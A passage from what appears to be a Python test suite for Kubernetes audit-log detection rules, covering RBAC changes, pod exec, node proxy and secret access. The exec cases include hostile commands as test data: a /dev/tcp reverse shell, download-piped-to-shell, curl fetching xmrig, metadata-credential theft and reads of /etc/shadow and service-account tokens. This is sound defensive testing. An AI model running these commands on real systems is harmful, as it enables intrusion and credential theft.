         binding("rolebindings", "anon-read", "pod-reader", [subj("User", "system:anonymous")], ns="default"),
         fire=["Role Bound To Anonymous Or All Users"]),
    case("public-info-viewer to unauthenticated is the Kubernetes default",
         binding("clusterrolebindings", "system:public-info-viewer", "system:public-info-viewer",
                 [subj("Group", "system:authenticated"), subj("Group", "system:unauthenticated")], user=ALICE),
         no_fire=["Role Bound To Anonymous Or All Users"]),
)
add(R,
    case("role bound to default service account",
         binding("rolebindings", "default-edit", "edit", [subj("ServiceAccount", "default", "payments")], ns="payments"),
         fire=["Role Bound To Default Service Account"]),
    case("role bound to a dedicated service account",
         binding("rolebindings", "api-reader", "view", [subj("ServiceAccount", "payments-api", "payments")], ns="payments"),
         no_fire=["Role Bound To Default Service Account", "Powerful Role Bound To Service Account"]),
)
add(R,
    case("edit granted to an application service account",
         binding("rolebindings", "worker-edit", "edit", [subj("ServiceAccount", "payments-worker", "payments")], ns="payments"),
         fire=["Powerful Role Bound To Service Account"]),
    case("controller role bound to a service account cluster-wide",
         binding("clusterrolebindings", "helper", "system:controller:clusterrole-aggregation-controller",
                 [subj("ServiceAccount", "helper", "tools")]),
         fire=["Powerful Role Bound To Service Account"]),
    case("chart binding auth-delegator to its service account",
         binding("clusterrolebindings", "metrics-server:system:auth-delegator", "system:auth-delegator",
                 [subj("ServiceAccount", "metrics-server", "monitoring")]),
         no_fire=["Powerful Role Bound To Service Account"]),
    case("edit granted to a group of people",
         binding("rolebindings", "devs-edit", "edit", [subj("Group", "dev-team")], ns="payments"),
         no_fire=["Powerful Role Bound To Service Account"]),
    case("GitOps controller binds admin to a tenant service account",
         binding("rolebindings", "tenant-admin", "admin", [subj("ServiceAccount", "tenant", "shop")], ns="shop",
                 user="system:serviceaccount:argocd:argocd-application-controller", ua="argocd-application-controller/v2.10.1"),
         no_fire=["Powerful Role Bound To Service Account", "RBAC Changed By Service Account"]),
)
add(R,
    case("clusterrole with wildcard verbs",
         role("clusterroles", "ops-all", [rule_(["*"], ["deployments", "pods"], ["", "apps"])]),
         fire=["Role With Wildcard Permissions"]),
    case("role with wildcard resources",
         role("roles", "ns-all", [rule_(["get"], ["*"])], ns="dev"),
         fire=["Role With Wildcard Permissions"]),
    case("existing clusterrole widened by merge patch",
         role("clusterroles", "ci-deployer", [rule_(["*"], ["*"], ["*"])], verb="patch"),
         fire=["Role With Wildcard Permissions"]),
    case("existing clusterrole widened by JSON patch",
         ev("patch", "clusterroles", name="ci-deployer",
            req=[{"op": "add", "path": "/rules/-", "value": {"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}}]),
         fire=["Role With Wildcard Permissions"]),
    case("JSON patch adding a harmless verb",
         ev("patch", "clusterroles", name="ci-deployer",
            req=[{"op": "add", "path": "/rules/0/verbs/-", "value": "list"}]),
         no_fire=["Role With Wildcard Permissions", "Role Grants Escalation Verbs"]),
    case("JSON patch on a role's labels with a wildcard value is not a rules change",
         ev("patch", "clusterroles", name="ci-deployer",
            req=[{"op": "add", "path": "/metadata/annotations/owner", "value": "*"}]),
         no_fire=["Role With Wildcard Permissions"]),
    case("read-only role",
         role("roles", "pod-reader", [rule_(["get", "list", "watch"], ["pods", "pods/log"])], ns="dev"),
         no_fire=["Role With Wildcard Permissions", "Role Grants Write Access", "Role Grants Pod Exec",
                  "Role Grants Escalation Verbs", "Role Grants Secret Read Access", "Role Grants Node Or Token Powers"]),
)
add(R,
    case("role with write verbs",
         role("roles", "deployer", [rule_(["get", "create", "update", "patch"], ["deployments"], ["apps"])], ns="dev"),
         fire=["Role Grants Write Access"]),
    case("write role created by a trusted operator",
         role("roles", "cert-manager-leader", [rule_(["create", "update"], ["leases"], ["coordination.k8s.io"])], ns="cert-manager",
              user="system:serviceaccount:cert-manager:cert-manager", ua="cert-manager-controller/v1.14.2"),
         no_fire=["Role Grants Write Access", "RBAC Changed By Service Account"]),
)
add(R,
    case("clusterrole granting pods/exec",
         role("clusterroles", "debugger", [rule_(["get"], ["pods"]), rule_(["create", "get"], ["pods/exec"])]),
         fire=["Role Grants Pod Exec"]),
    case("role granting pods/log only",
         role("roles", "log-reader", [rule_(["get"], ["pods/log"])], ns="dev"),
         no_fire=["Role Grants Pod Exec"]),
)
add(R,
    case("clusterrole with escalate and bind",
         role("clusterroles", "rbac-manager", [rule_(["escalate", "bind", "create"], ["clusterroles", "clusterrolebindings"], ["rbac.authorization.k8s.io"])]),
         fire=["Role Grants Escalation Verbs"]),
    case("clusterrole with impersonate on users",
         role("clusterroles", "impersonator", [rule_(["impersonate"], ["users", "groups"])]),
         fire=["Role Grants Escalation Verbs"]),
    case("escalate verb added by JSON patch",
         ev("patch", "clusterroles", name="rbac-helper",
            req=[{"op": "add", "path": "/rules/0/verbs/-", "value": "escalate"}]),
         fire=["Role Grants Escalation Verbs"]),
    case("aggregation controller updating the built-in admin role",
         role("clusterroles", "admin", [rule_(["impersonate"], ["serviceaccounts"])], verb="update",
              user="system:serviceaccount:kube-system:clusterrole-aggregation-controller", ua=KCM),
         no_fire=["Role Grants Escalation Verbs"]),
)
add(R,
    case("role granting secret reads",
         role("roles", "secret-reader", [rule_(["get", "list"], ["secrets"])], ns="payments"),
         fire=["Role Grants Secret Read Access"]),
    case("role granting configmap reads",
         role("roles", "cm-reader", [rule_(["get", "list"], ["configmaps"])], ns="payments"),
         no_fire=["Role Grants Secret Read Access"]),
)
add(R,
    case("clusterrole granting nodes/proxy",
         role("clusterroles", "node-proxy", [rule_(["get", "create"], ["nodes/proxy"])]),
         fire=["Role Grants Node Or Token Powers"]),
    case("clusterrole granting serviceaccounts/token",
         role("clusterroles", "token-minter", [rule_(["create"], ["serviceaccounts/token"])]),
         fire=["Role Grants Node Or Token Powers"]),
    case("clusterrole granting nodes read",
         role("clusterroles", "node-reader", [rule_(["get", "list"], ["nodes"])]),
         no_fire=["Role Grants Node Or Token Powers"]),
)
add(R,
    case("clusterrole aggregated into admin",
         role("clusterroles", "widgets-admin", [rule_(["*"], ["widgets"], ["example.com"])],
              labels={"rbac.authorization.k8s.io/aggregate-to-admin": "true"}),
         fire=["ClusterRole Aggregated Into Built-in Roles"]),
    case("clusterrole with unrelated labels",
         role("clusterroles", "widgets-viewer", [rule_(["get"], ["widgets"], ["example.com"])],
              labels={"app.kubernetes.io/name": "widgets"}),
         no_fire=["ClusterRole Aggregated Into Built-in Roles"]),
)
add(R,
    case("user patches system:node-problem-detector",
         role("clusterroles", "system:node-problem-detector", [rule_(["get"], ["nodes"]), rule_(["*"], ["secrets"])], verb="patch"),
         fire=["System RBAC Object Modified Or Deleted"]),
    case("user deletes system:kube-aggregator",
         ev("delete", "clusterroles", name="system:kube-aggregator",
            req={"kind": "DeleteOptions", "apiVersion": "rbac.authorization.k8s.io/v1", "propagationPolicy": "Background"}),
         fire=["System RBAC Object Modified Or Deleted"]),
    case("coredns role update is expected",
         role("clusterroles", "system:coredns", [rule_(["list", "watch"], ["endpoints", "services", "pods", "namespaces"])], verb="update"),
         no_fire=["System RBAC Object Modified Or Deleted"]),
    case("user edits own non-system role",
         role("clusterroles", "team-reader", [rule_(["get"], ["pods"])], verb="update"),
         no_fire=["System RBAC Object Modified Or Deleted"]),
)
add(R,
    case("new service account in kube-system",
         ev("create", "serviceaccounts", ns="kube-system", name="backup-helper",
            req={"kind": "ServiceAccount", "apiVersion": "v1", "metadata": {"name": "backup-helper", "namespace": "kube-system"}}),
         fire=["Service Account Created In Kube Namespace"]),
    case("controller service account recreated in kube-system",
         ev("create", "serviceaccounts", ns="kube-system", name="replicaset-controller", user="system:kube-controller-manager", ua=KCM),
         no_fire=["Service Account Created In Kube Namespace"]),
    case("service account in an application namespace",
         ev("create", "serviceaccounts", ns="payments", name="payments-api"),
         no_fire=["Service Account Created In Kube Namespace"]),
    case("failed creation in kube-system",
         ev("create", "serviceaccounts", ns="kube-system", name="x", code=403),
         no_fire=["Service Account Created In Kube Namespace"]),
)
add(R,
    case("application service account creates a clusterrolebinding",
         binding("clusterrolebindings", "pwn", "view", [subj("ServiceAccount", "payments-api", "payments")],
                 user="system:serviceaccount:payments:payments-api", ua="okhttp/4.12.0"),
         fire=["RBAC Changed By Service Account"]),
    case("metrics exporter widens an existing clusterrole",
         role("clusterroles", "kube-state-metrics", [rule_(["get", "list", "watch"], ["secrets", "pods"])], verb="patch",
              user="system:serviceaccount:monitoring:kube-state-metrics", ua="Go-http-client/2.0"),
         fire=["RBAC Changed By Service Account"]),
    case("refused rolebinding attempt by a workload token",
         binding("rolebindings", "x", "admin", [subj("ServiceAccount", "default", "web")], ns="web",
                 user="system:serviceaccount:web:default", ua="python-requests/2.31.0", code=403),
         fire=["RBAC Changed By Service Account"]),
    case("CI runner deleting a role it deployed earlier",
         ev("delete", "roles", ns="checkout", name="checkout-frontend", user="system:serviceaccount:ci:gitlab-runner",
            ua="Go-http-client/2.0"),
         no_fire=["RBAC Changed By Service Account"]),
    case("service account creates new roles (nothing granted until bound)",
         [role("roles", "cart-reader", [rule_(["get"], ["configmaps"])], ns="checkout",
               user="system:serviceaccount:ci:gitlab-runner", ua="helm/v3.14.4"),
          role("clusterroles", "cart-crd-reader", [rule_(["get", "list"], ["carts"], ["shop.example.com"])],
               user="system:serviceaccount:ci:gitlab-runner", ua="helm/v3.14.4")],
         no_fire=["RBAC Changed By Service Account"]),
    case("operator lifecycle manager installs an operator's binding",
         binding("clusterrolebindings", "etcd-operator.v0.9.4-x", "etcd-operator.v0.9.4-x",
                 [subj("ServiceAccount", "etcd-operator", "operators")],
                 user="system:serviceaccount:olm:olm-operator-serviceaccount", ua="olm/v0.27.0"),
         no_fire=["RBAC Changed By Service Account"]),
    case("argocd syncs a role",
         role("roles", "app-reader", [rule_(["get"], ["pods"])], ns="shop",
              user="system:serviceaccount:argocd:argocd-application-controller", ua="argocd-application-controller/v2.10.1"),
         no_fire=["RBAC Changed By Service Account"]),
    case("person creates a role",
         role("roles", "reader", [rule_(["get"], ["pods"])], ns="shop"),
         no_fire=["RBAC Changed By Service Account"]),
)

# =========================================================================
# 30-access
# =========================================================================
A = "30-access.yaml"
EXEC_OFF = ["Pod Exec Or Attach", "Shell Run Via Exec", "Pod Port Forward"]   # optional access records
SUSP = "Suspicious Command Run Via Exec"
WLX = "Pod Exec By Workload Identity"
APP_POD = ("payments", "payments-api-6c9f7-abcde")
add(A,
    case("exec into a kube-system pod",
         exec_("kube-system", "coredns-76f75df574-5kzqd", ["sh"]),
         fire=["Exec Into Kube Namespace Pod"], no_fire=[SUSP, WLX] + EXEC_OFF),
    case("exec into a kube-system pod, access records on",
         exec_("kube-system", "coredns-76f75df574-5kzqd", ["sh"]),
         fire=["Exec Into Kube Namespace Pod", "Shell Run Via Exec", "Pod Exec Or Attach"], extra=ENABLE),
    case("exec into an application pod is not a kube namespace exec",
         exec_(*APP_POD, ["ls", "/tmp"]),
         no_fire=["Exec Into Kube Namespace Pod", SUSP, "File Copy Via Exec", WLX] + EXEC_OFF),
    case("exec into an application pod, access records on",
         exec_(*APP_POD, ["ls", "/tmp"]),
         fire=["Pod Exec Or Attach"], no_fire=["Shell Run Via Exec", SUSP], extra=ENABLE),
    case("a person's interactive bash is routine (recorded only when access records are on)",
         exec_(*APP_POD, ["/bin/bash"]),
         no_fire=[SUSP, WLX, "Shell Run Via Exec", "Pod Exec Or Attach"]),
    case("interactive bash, access records on",
         exec_(*APP_POD, ["/bin/bash"]),
         fire=["Shell Run Via Exec", "Pod Exec Or Attach"], no_fire=[SUSP], extra=ENABLE),
    case("curl to the metadata service via exec (websocket get)",
         exec_("web", "web-7d4b9c-x2x9q", ["curl", "http://169.254.169.254/latest/meta-data/"], verb="get"),
         fire=[SUSP]),
    case("sh -c wrapper reading /etc/shadow",
         exec_("web", "web-7d4b9c-x2x9q", ["sh", "-c", "cat /etc/shadow"]),
         fire=[SUSP]),
    case("cat of a sensitive file as separate arguments",
         exec_("web", "web-7d4b9c-x2x9q", ["cat", "/etc/shadow"]),
         fire=[SUSP]),
    case("sh -c curl to the instance metadata service (credential theft)",
         exec_("web", "web-7d4b9c-x2x9q", ["sh", "-c", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/"]),
         fire=[SUSP]),
    case("GCP metadata server by name",
         exec_("web", "web-7d4b9c-x2x9q", ["python3", "-c", "import urllib.request as u;print(u.urlopen('http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token').read())"]),
         fire=[SUSP]),
    case("service account token read through exec",
         exec_(*APP_POD, ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"]),
         fire=[SUSP]),
    case("busybox wget (tool as the second word)",
         exec_(*APP_POD, ["busybox", "wget", "-qO-", "http://203.0.113.50/x"]),
         fire=[SUSP]),
    case("absolute path to curl",
         exec_(*APP_POD, ["/usr/bin/curl", "-sO", "http://203.0.113.50/xmrig"]),
         fire=[SUSP]),
    case("environment dump",
         exec_(*APP_POD, ["env"]),
         fire=[SUSP]),
    case("chroot into the host filesystem",
         exec_("web", "web-debug", ["sh", "-c", "chroot /host bash -i"]),
         fire=[SUSP]),
    case("bash /dev/tcp reverse shell",
         exec_(*APP_POD, ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1"]),
         fire=[SUSP]),
    case("download piped into a shell",
         exec_(*APP_POD, ["sh", "-c", "wget -qO- http://203.0.113.50/s | sh"]),
         fire=[SUSP]),
    case("client that sends raw slashes and %20",
         ev("create", "pods", ns="payments", name="payments-api-6c9f7-abcde", sub="exec", stage="ResponseStarted",
            uri="/api/v1/namespaces/payments/pods/payments-api-6c9f7-abcde/exec?command=sh&command=-c&command=cat%20/etc/shadow&container=app&stdout=true"),
         fire=[SUSP]),
    case("words that merely contain a tool name",
         [exec_(*APP_POD, ["ls", "/tmp/curlies"]), exec_(*APP_POD, ["ncdu", "/data"]),
          exec_(*APP_POD, ["sh", "-c", "echo environment ok"]), exec_(*APP_POD, ["cat", "/etc/hostname"]),
          exec_(*APP_POD, ["tail", "-n", "100", "/var/log/app.log"]),
          exec_(*APP_POD, ["psql", "-c", "select 1 | 2"])],
         no_fire=[SUSP]),
    case("kubectl cp from a pod",
         exec_("payments", "payments-db-0", ["tar", "cf", "-", "/var/lib/postgresql/data"]),
         fire=["File Copy Via Exec"], no_fire=[SUSP, "Shell Run Via Exec"]),
    case("exec stream closing (ResponseComplete 101) does not alert twice",
         exec_(*APP_POD, ["curl", "http://169.254.169.254/"], stage="ResponseComplete", code=101),
         no_fire=[SUSP, "Pod Exec Or Attach", "Shell Run Via Exec"], extra=ENABLE),
    case("denied exec by a service account is reported when it completes",
         exec_(*APP_POD, ["bash"], stage="ResponseComplete", code=403,
               user="system:serviceaccount:payments:payments-api", ua="kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819"),
         fire=[WLX], no_fire=[SUSP]),
    case("denied exec, access records on",
         exec_(*APP_POD, ["bash"], stage="ResponseComplete", code=403,
               user="system:serviceaccount:payments:payments-api", ua="kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819"),
         fire=[WLX, "Pod Exec Or Attach", "Shell Run Via Exec"], extra=ENABLE),
    case("node credentials used to exec",
         exec_(*APP_POD, ["id"], user="system:node:ip-10-0-9-32.ec2.internal", ua="kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819"),
         fire=[WLX]),
    case("controller-manager identity attaching to a pod",
         exec_("default", "nginx-deployment-7998647bdf-phvq7", [], sub="attach", user="system:kube-controller-manager", ua=KCM),
         fire=[WLX]),
    case("service account opens a port-forward",
         ev("create", "pods", ns="payments", name="payments-db-0", sub="portforward", stage="ResponseStarted", code=101,
            query="ports=5432", user="system:serviceaccount:web:default", ua="python-requests/2.31.0"),
         fire=[WLX], no_fire=["Pod Port Forward"]),
    case("GitLab runner's Kubernetes executor attaching to its build pod",
         exec_("gitlab-runner", "runner-abc123-project-42-concurrent-0", ["sh", "-c", "if [ -x /usr/local/bin/bash ]; then exec bash; fi"],
               sub="attach", user="system:serviceaccount:gitlab-runner:gitlab-runner", ua="gitlab-runner/16.11.0 (linux/amd64)"),
         no_fire=[WLX, SUSP]),
    case("a person attaching to a pod is routine",
         exec_("default", "nginx-deployment-7998647bdf-phvq7", [], sub="attach"),
         no_fire=[WLX, "Pod Exec Or Attach"]),
    case("attach to a pod, access records on",
         exec_("default", "nginx-deployment-7998647bdf-phvq7", [], sub="attach"),
         fire=["Pod Exec Or Attach"], extra=ENABLE),
    case("pod logs are not exec",
         [ev("get", "pods", ns="default", name="web-7d4b9c-x2x9q", sub="log"),
          ev("get", "pods", ns="default", name="web-7d4b9c-x2x9q", sub="log", user="system:serviceaccount:monitoring:promtail",
             ua="promtail/2.9.0")],
         no_fire=["Pod Exec Or Attach", "Pod Port Forward", WLX], extra=ENABLE),
    case("exec exception added by an operator",
         exec_("batch", "runner-0", ["ls"], user="ops-bot@example.com"),
         no_fire=["Pod Exec Or Attach"], extra=ENABLE),
)
add(A,
    case("a person's port-forward is routine (recorded only when access records are on)",
         ev("create", "pods", ns="payments", name="payments-db-0", sub="portforward", stage="ResponseStarted", code=101,
            query="ports=5432"),
         no_fire=["Pod Port Forward", WLX]),
    case("port-forward, access records on",
         ev("create", "pods", ns="payments", name="payments-db-0", sub="portforward", stage="ResponseStarted", code=101,
            query="ports=5432"),
         fire=["Pod Port Forward"], extra=ENABLE),
    case("port-forward stream end",
         ev("create", "pods", ns="payments", name="payments-db-0", sub="portforward", stage="ResponseComplete", code=101),
         no_fire=["Pod Port Forward"], extra=ENABLE),
)
NODE = "ip-10-0-9-32.ec2.internal"
add(A,
    case("kubelet /run through nodes/proxy",
         ev("create", "nodes", name=NODE, sub="proxy", uri="/api/v1/nodes/%s/proxy/run/payments/payments-api-6c9f7-abcde/api?cmd=id" % NODE),
         fire=["Kubelet API Reached Via Node Proxy"]),
    case("kubelet pod listing through nodes/proxy",
         ev("get", "nodes", name=NODE, sub="proxy", uri="/api/v1/nodes/%s/proxy/pods" % NODE,
            user="system:serviceaccount:tools:scanner", ua="python-requests/2.31.0"),
         fire=["Kubelet API Reached Via Node Proxy"]),
    case("prometheus scraping cadvisor",
         ev("get", "nodes", name=NODE, sub="proxy", uri="/api/v1/nodes/%s/proxy/metrics/cadvisor" % NODE,
            user="system:serviceaccount:monitoring:prometheus-k8s", ua="Prometheus/2.50.1"),
         no_fire=["Kubelet API Reached Via Node Proxy"]),
    case("kubelet exec stream through nodes/proxy alerts once, when it opens",
         [ev("create", "nodes", name=NODE, sub="proxy", stage="ResponseStarted", code=101,
             uri="/api/v1/nodes/%s/proxy/exec/payments/payments-api-6c9f7-abcde/api?command=sh&input=1&output=1&tty=1" % NODE),
          ev("create", "nodes", name=NODE, sub="proxy", stage="ResponseComplete", code=101,
             uri="/api/v1/nodes/%s/proxy/exec/payments/payments-api-6c9f7-abcde/api?command=sh&input=1&output=1&tty=1" % NODE)],
         fire=["Kubelet API Reached Via Node Proxy"]),
    case("node status read is not proxy",
         ev("get", "nodes", name=NODE, user="system:node:" + NODE, ua=KUBELET),
         no_fire=["Kubelet API Reached Via Node Proxy"]),
)
ANON_OK = 'RBAC: allowed by ClusterRoleBinding "oops" of ClusterRole "cluster-admin" to User "system:anonymous"'
add(A,
    case("anonymous creates a namespace",
         ev("create", "namespaces", name="foo", user="system:anonymous", ua="python-requests/2.31.0", reason=ANON_OK,
            req={"kind": "Namespace", "apiVersion": "v1", "metadata": {"name": "foo"}}),
         fire=["Anonymous Write Allowed", "Anonymous Request Allowed"]),
    case("anonymous write refused",
         ev("create", "namespaces", name="foo", user="system:anonymous", ua="curl/8.4.0", code=403),
         no_fire=["Anonymous Write Allowed", "Anonymous Request Allowed"]),
    case("anonymous lists pods and is allowed",
         ev("list", "pods", ns="default", user="system:anonymous", ua="curl/8.4.0", reason=ANON_OK),
         fire=["Anonymous Request Allowed"], no_fire=["Anonymous Write Allowed"]),
    case("anonymous health checks",
         [ev("get", None, uri="/healthz", user="system:anonymous", ua="kube-probe/1.29", reason=""),
          ev("get", None, uri="/readyz?verbose", user="system:anonymous", ua="kube-probe/1.29", reason=""),
          ev("get", None, uri="/version", user="system:anonymous", ua="curl/8.4.0", reason="")],
         no_fire=["Anonymous Request Allowed"]),
)
add(A,
    case("user allowlist enforced: unknown user",
         ev("list", "pods", ns="default", user="mallory@example.com"),
         fire=["Request By Unlisted User"], extra=ENABLE),
    case("user allowlist enforced: listed user and system users",
         [ev("list", "pods", ns="default", user="kubernetes-admin"),
          ev("get", "nodes", name=NODE, user="system:node:" + NODE, ua=KUBELET)],
         no_fire=["Request By Unlisted User"], extra=ENABLE),
    case("user allowlist off by default",
         ev("list", "pods", ns="default", user="mallory@example.com"),
         no_fire=["Request By Unlisted User"]),
    case("break-glass watch on: system:masters member",
         ev("delete", "deployments", ns="payments", name="payments-api", user="kubernetes-admin"),
         fire=["Break-Glass Admin Credential Used"], extra=ENABLE),
    case("break-glass watch on: ordinary user",
         ev("delete", "deployments", ns="payments", name="payments-api"),
         no_fire=["Break-Glass Admin Credential Used"], extra=ENABLE),
    case("break-glass watch off by default",
         ev("delete", "deployments", ns="payments", name="payments-api", user="kubernetes-admin"),
         no_fire=["Break-Glass Admin Credential Used"]),
)
add(A,
    case("node credentials used with curl to read a secret",
         ev("get", "secrets", ns="payments", name="db-password", user="system:node:" + NODE, ua="curl/8.4.0"),
         fire=["Secret Read With Node Credentials", "Secret Read By Scripting Client"]),
    case("node credentials listing secrets cluster-wide (refused)",
         ev("list", "secrets", user="system:node:" + NODE, ua=KUBELET, code=403),
         fire=["Secret Read With Node Credentials"]),
    case("node credentials listing secrets cluster-wide (allowed: the node holds extra RBAC)",
         ev("list", "secrets", user="system:node:" + NODE, ua=KUBELET, query="limit=500&resourceVersion=0"),
         fire=["Secret Read With Node Credentials"], no_fire=["Secrets Listed Cluster-Wide"]),
    case("node identity resuming a cluster-wide watch (its list was already reported)",
         ev("watch", "secrets", user="system:node:" + NODE, ua=KUBELET,
            query="allowWatchBookmarks=true&resourceVersion=48213377&timeoutSeconds=411&watch=true"),
         no_fire=["Secret Read With Node Credentials"]),
    case("node credentials refused a secret outside the node's pods",
         ev("get", "secrets", ns="kube-system", name="cilium-ca", user="system:node:" + NODE, ua=KUBELET, code=403),
         fire=["Secret Read With Node Credentials"], no_fire=["Secret Access Denied"]),
    case("kubelet fetching a secret for its pod",
         ev("get", "secrets", ns="payments", name="db-password", user="system:node:" + NODE, ua=KUBELET),
         no_fire=["Secret Read With Node Credentials", "Secret Read By Scripting Client"]),
    case("kubelet watching one secret of its pod (watch change-detection strategy)",
         [ev("list", "secrets", ns="payments", user="system:node:" + NODE, ua=KUBELET,
             query="fieldSelector=metadata.name%3Ddb-password&limit=500&resourceVersion=0"),
          ev("watch", "secrets", ns="payments", user="system:node:" + NODE, ua=KUBELET,
             query="allowWatchBookmarks=true&fieldSelector=metadata.name%3Ddb-password&resourceVersion=48213377&timeoutSeconds=411&watch=true")],
         no_fire=["Secret Read With Node Credentials", "Secrets Listed Cluster-Wide"]),
)
add(A,
    case("user lists all secrets",
         ev("list", "secrets", query="limit=500"),
         fire=["Secrets Listed Cluster-Wide"]),
    case("service account watches secrets cluster-wide",
         ev("watch", "secrets", user="system:serviceaccount:payments:payments-api", ua="okhttp/4.12.0",
            query="watch=true"),
         fire=["Secrets Listed Cluster-Wide"]),
    case("watch from resourceVersion 0 returns every secret",
         ev("watch", "secrets", user="alice@example.com", query="resourceVersion=0&watch=true"),
         fire=["Secrets Listed Cluster-Wide"]),
    case("ingress controller watches secrets cluster-wide",
         ev("watch", "secrets", user="system:serviceaccount:ingress-nginx:ingress-nginx",
            ua="nginx-ingress-controller/v1.10.0 (linux/amd64) ingress-nginx/71f78d49f", query="watch=true"),
         no_fire=["Secrets Listed Cluster-Wide"]),
    case("an informer resuming its cluster-wide watch streams changes only",
         ev("watch", "secrets", user="system:serviceaccount:monitoring:grafana", ua="Go-http-client/2.0",
            query="allowWatchBookmarks=true&resourceVersion=48213377&timeout=8m41s&timeoutSeconds=521&watch=true"),
         no_fire=["Secrets Listed Cluster-Wide", "Secret Read By Scripting Client"]),
    case("refused cluster-wide list is reported as a denial, not as a dump",
         ev("list", "secrets", user="system:serviceaccount:web:default", ua="kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819",
            code=403, query="limit=500"),
         fire=["Secret Access Denied"], no_fire=["Secrets Listed Cluster-Wide"]),
    case("listing secrets of one namespace",
         ev("list", "secrets", ns="payments"),
         no_fire=["Secrets Listed Cluster-Wide"]),
)
add(A,
    case("python-requests reads a secret with a stolen token",
         ev("get", "secrets", ns="payments", name="stripe-key", user="system:serviceaccount:payments:payments-api",
            ua="python-requests/2.31.0"),
         fire=["Secret Read By Scripting Client"]),
    case("wget reads a secret",
         ev("get", "secrets", ns="default", name="registry-creds", user="system:serviceaccount:default:default", ua="Wget/1.21.4"),
         fire=["Secret Read By Scripting Client"]),
    case("Go's default user agent is an ordinary controller, not a script",
         [ev("list", "secrets", ns="default", user="system:serviceaccount:default:default", ua="Go-http-client/1.1"),
          ev("get", "secrets", ns="argocd", name="argocd-secret", user="system:serviceaccount:argocd:argocd-server",
             ua="Go-http-client/2.0")],
         no_fire=["Secret Read By Scripting Client"]),
    case("scripting client refused a secret",
         ev("get", "secrets", ns="kube-system", name="admin-token", user="system:serviceaccount:web:default",
            ua="curl/8.4.0", code=403),
         fire=["Secret Access Denied"], no_fire=["Secret Read By Scripting Client"]),
    case("kubectl reads a secret",
         ev("get", "secrets", ns="payments", name="stripe-key"),
         no_fire=["Secret Read By Scripting Client"]),
    case("scripting client reads a configmap",
         ev("get", "configmaps", ns="payments", name="settings", ua="curl/8.4.0"),
         no_fire=["Secret Read By Scripting Client"]),
)
add(A,
    case("user reads a kube-system secret",
         ev("get", "secrets", ns="kube-system", name="aws-cloud-credentials"),
         fire=["Kube Namespace Secret Read By User"]),
    case("controller reads a kube-system secret",
         ev("get", "secrets", ns="kube-system", name="bootstrap-token-abcdef",
            user="system:serviceaccount:kube-system:bootstrap-signer", ua=KCM),
         no_fire=["Kube Namespace Secret Read By User"]),
    case("user reads an application secret",
         ev("get", "secrets", ns="payments", name="db-password"),
         no_fire=["Kube Namespace Secret Read By User"]),
    case("helm upgrade of a kube-system release reads its release records",
         [ev("list", "secrets", ns="kube-system", ua="Helm/3.14.4", query="labelSelector=name%3Dcilium%2Cowner%3Dhelm"),
          ev("get", "secrets", ns="kube-system", name="sh.helm.release.v1.cilium.v7", ua="Helm/3.14.4")],
         no_fire=["Kube Namespace Secret Read By User"]),
    case("kubectl reading a helm release record in kube-system is still a secret read",
         ev("get", "secrets", ns="kube-system", name="sh.helm.release.v1.cilium.v7"),
         fire=["Kube Namespace Secret Read By User"]),
)
add(A,
    case("service account denied a secret",
         ev("get", "secrets", ns="kube-system", name="admin-token", user="system:serviceaccount:web:default", code=403,
            ua="kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819"),
         fire=["Secret Access Denied"]),
    case("secret not found is not a denial",
         ev("get", "secrets", ns="payments", name="missing", code=404),
         no_fire=["Secret Access Denied"]),
    case("anonymous scanner refused secrets",
         [ev("list", "secrets", user="system:anonymous", ua="curl/8.4.0", code=403),
          ev("get", "secrets", ns="default", name="x", user="system:anonymous", ua="Mozilla/5.0 zgrab/0.x", code=403)],
         no_fire=["Secret Access Denied", "Secret Read By Scripting Client", "Secrets Listed Cluster-Wide"]),
)
TR = {"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1",
      "spec": {"audiences": ["https://kubernetes.default.svc"], "expirationSeconds": 31536000}}
add(A,
    case("user mints a token for a kube-system service account",
         ev("create", "serviceaccounts", ns="kube-system", name="clusterrole-aggregation-controller", sub="token", req=TR),
         fire=["Service Account Token Requested"], no_fire=["Service Account Created In Kube Namespace"]),
    case("kubelet requests a projected token",
         ev("create", "serviceaccounts", ns="payments", name="payments-api", sub="token", user="system:node:" + NODE,
            ua=KUBELET, req=TR),
         no_fire=["Service Account Token Requested"]),
)
add(A,
    case("legacy token secret created by a user",
         ev("create", "secrets", ns="default", name="ci-token",
            req={"kind": "Secret", "apiVersion": "v1", "type": "kubernetes.io/service-account-token",
                 "metadata": {"name": "ci-token", "namespace": "default",
                              "annotations": {"kubernetes.io/service-account.name": "ci"}}}),
         fire=["Long-Lived Token Secret Created"]),
    case("opaque secret",
         ev("create", "secrets", ns="default", name="app-creds",
            req={"kind": "Secret", "apiVersion": "v1", "type": "Opaque", "metadata": {"name": "app-creds", "namespace": "default"}}),
         no_fire=["Long-Lived Token Secret Created"]),
    case("token secret created by the controller manager",
         ev("create", "secrets", ns="test2", name="default-token-x2x9q", user="system:kube-controller-manager",
            ua=KCM + "/tokens-controller",
            req={"kind": "Secret", "apiVersion": "v1", "type": "kubernetes.io/service-account-token",
                 "metadata": {"name": "default-token-x2x9q", "namespace": "test2"}}),
         no_fire=["Long-Lived Token Secret Created"]),
)
CSR = {"kind": "CertificateSigningRequest", "apiVersion": "certificates.k8s.io/v1",
       "metadata": {"name": "mallory-admin"},
       "spec": {"request": "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0K", "signerName": "kubernetes.io/kube-apiserver-client",
                "usages": ["client auth"]}}
add(A,
    case("user submits a client certificate CSR",
         ev("create", "certificatesigningrequests", name="mallory-admin", req=CSR),
         fire=["Certificate Signing Request Created"]),
    case("kubelet bootstrap CSR",
         ev("create", "certificatesigningrequests", name="csr-8k2lq", user="system:bootstrap:abcdef", ua=KUBELET,
            req=dict(CSR, spec=dict(CSR["spec"], signerName="kubernetes.io/kube-apiserver-client-kubelet"))),
         no_fire=["Certificate Signing Request Created"]),
    case("user approves a CSR",
         ev("update", "certificatesigningrequests", name="mallory-admin", sub="approval",
